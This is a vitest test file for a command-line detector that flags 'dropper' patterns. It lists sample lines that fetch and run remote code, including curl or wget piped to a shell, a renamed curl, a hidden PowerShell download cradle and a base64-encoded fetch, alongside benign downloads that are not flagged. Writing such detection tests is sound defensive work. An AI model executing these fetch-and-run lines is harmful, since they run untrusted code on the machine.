import { expect, it } from 'vitest'
import { dropper } from './dropper.js'
import { codesOfLine } from './tell.fixture.js'

it.each([
  ['curl -s http://192.0.2.7/a.sh | bash', ['dropper.fetched']],
  ['wget -q http://example.org/x -O /tmp/x; chmod +x /tmp/x; /tmp/x', ['dropper.fetched']],
  ['/usr/bin/cdz -fsSL http://example.org/b.sh | sh', ['dropper.fetched', 'dropper.renamed']],
  ["powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://example.org/a')", ['dropper.cradle']],
  ['bash -c "$(curl -fsSL http://example.org/i)"', ['dropper.fetched']],
  ['echo Y3VybCBodHRwOi8vMTkyLjAuMi43L2F8c2g= | base64 -d | sh', ['dropper.fetched', 'dropper.coded']],
])('is told by %s', (line, codes) => {
  expect(codesOfLine(dropper, line)).toEqual(codes)
})

it.each([
  ['curl -o a.html https://example.org/'],
  ['wget https://example.org/a.tgz && tar xf a.tgz'],
  ['echo aGVsbG8gd29ybGQ= | base64 -d'],
  ['chmod +x build.sh && ./build.sh'],
])('is not told by %s', (line) => {
  expect(codesOfLine(dropper, line)).toEqual([])
})
